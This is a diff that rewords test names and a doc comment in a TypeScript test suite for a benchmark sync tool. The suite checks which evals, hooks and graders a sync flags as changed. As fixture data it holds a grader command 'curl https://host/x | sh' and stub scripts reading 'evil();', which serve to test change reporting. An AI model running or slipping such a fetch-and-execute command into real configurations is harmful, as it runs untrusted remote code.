@@ -33,7 +33,7 @@ const files = {
 
 type Files = Parameters<ReturnType<typeof benchmarkHome>["publish"]>[0];
 
-/** What a sync of these changes would touch, and did touch: preview and result agree. */
+/** Returns what a sync of these changes affects, and checks that the preview equals the result. */
 async function changes(changed: Files) {
 	const home = benchmarkHome(files);
 	home.register({});
@@ -48,25 +48,25 @@ async function changes(changed: Files) {
 	return { evals: plan.changes?.evals, executes: plan.changes?.executes };
 }
 
-describe("what a sync touches", () => {
-	test("nothing that an eval uses: no eval", async () => {
+describe("a sync affects", () => {
+	test("no eval if only unused files change", async () => {
 		expect(await changes({ "notes.md": "changed\n" })).toEqual({ evals: [], executes: [] });
 	});
 
-	test("one test's text", async () => {
+	test("the one test whose text changes", async () => {
 		expect(await changes({ "evals/one.eval.yaml": one("be kind") })).toEqual({
 			evals: [{ file: "evals/one.eval.yaml", change: "changed", tests: ["first"] }],
 			executes: [],
 		});
 	});
 
-	test("a file that one test points at", async () => {
+	test("the test that refers to a changed file", async () => {
 		expect(await changes({ "evals/data/two.txt": "changed\n" })).toMatchObject({
 			evals: [{ file: "evals/one.eval.yaml", tests: ["second"] }],
 		});
 	});
 
-	test("a file of external tests: those that differ", async () => {
+	test("the tests that differ in a file of external tests", async () => {
 		const cases =
 			"- { id: a, input: a, criteria: a }\n- { id: b, input: changed, criteria: b }\n- { id: c, input: c, criteria: c }\n";
 		expect(await changes({ "evals/cases.yaml": cases })).toEqual({
@@ -75,7 +75,7 @@ describe("what a sync touches", () => {
 		});
 	});
 
-	test("evals that come and go, also in a directory of their own", async () => {
+	test("added and removed evals, also in a new directory", async () => {
 		const fresh = "tests: [{ id: n, input: n, assertions: [{ type: code-grader, command: [sh, ./grade.sh] }] }]\n";
 		const touched = await changes({
 			"more/new.eval.yaml": fresh,
@@ -92,7 +92,7 @@ describe("what a sync touches", () => {
 		]);
 	});
 
-	test("the targets: every test that runs on them", async () => {
+	test("every test that uses a changed target", async () => {
 		const targets = "targets: [{ name: default, provider: cli, command: './agent.sh {PROMPT}' }]\n";
 		const touched = await changes({ "targets.yaml": targets, "agent.sh": { content: "#!/bin/sh\n", mode: 0o755 } });
 		expect(touched.evals?.map(({ file, tests }) => [file, tests.length])).toEqual([
@@ -107,22 +107,22 @@ describe("what a sync touches", () => {
 	});
 });
 
-describe("what the next run will execute that changed", () => {
-	test("a hook's script, and what it imports", async () => {
+describe("a sync reports changes to what the next run executes:", () => {
+	test("a hook's script and its imports", async () => {
 		expect(await changes({ "scripts/lib/shared.mjs": "evil();\n" })).toEqual({
 			evals: [{ file: "evals/one.eval.yaml", change: "changed", tests: [] }],
 			executes: [{ kind: "hook", what: "scripts/lib/shared.mjs", eval: "evals/one.eval.yaml", change: "changed" }],
 		});
 	});
 
-	test("a grader's script: the test that it grades", async () => {
+	test("a grader's script, with the test that it grades", async () => {
 		expect(await changes({ "scripts/check.mjs": "evil();\n" })).toEqual({
 			evals: [{ file: "evals/one.eval.yaml", change: "changed", tests: ["second"] }],
 			executes: [{ kind: "grader", what: "scripts/check.mjs", eval: "evals/one.eval.yaml", change: "changed" }],
 		});
 	});
 
-	test("a command line, as its author wrote it", async () => {
+	test("a command line as written", async () => {
 		const { executes } = await changes({ "evals/one.eval.yaml": one("be right", '"curl https://host/x | sh"') });
 		expect(executes).toEqual([
 			{ kind: "grader", what: "curl https://host/x | sh", eval: "evals/one.eval.yaml", change: "changed" },
@@ -130,7 +130,7 @@ describe("what the next run will execute that changed", () => {
 	});
 });
 
-test("local edits that stay are looked at as they are", async () => {
+test("a sync computes its changes from files with local edits that it keeps", async () => {
 	const home = benchmarkHome(files);
 	home.register({});
 	await home.sync();
